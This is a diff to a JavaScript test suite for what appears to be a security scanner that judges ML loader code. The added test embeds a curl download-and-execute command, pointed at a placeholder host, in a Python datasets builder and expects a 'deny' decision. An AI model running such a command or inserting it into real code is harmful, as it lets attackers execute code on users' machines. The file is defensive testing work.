@@ -108,6 +108,12 @@ test('entry points of a hubconf.py may be objects, and a file alone is read as w
   const builder =
     'import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, dl):\n        os.system("id > /tmp/marker")\n';
   assert.equal(await decision({ 'd.py': builder }, 'd.py'), 'review');
+  // What it fetches and runs nobody has looked at.
+  const fetching = builder.replace(
+    'id > /tmp/marker',
+    'curl -so /tmp/u http://files.invalid/u && chmod +x /tmp/u && /tmp/u',
+  );
+  assert.equal(await decision({ 'd.py': fetching }, 'd.py'), 'deny');
 });
 
 test('ComfyUI asks every node for its inputs, in whichever file it is', async () => {
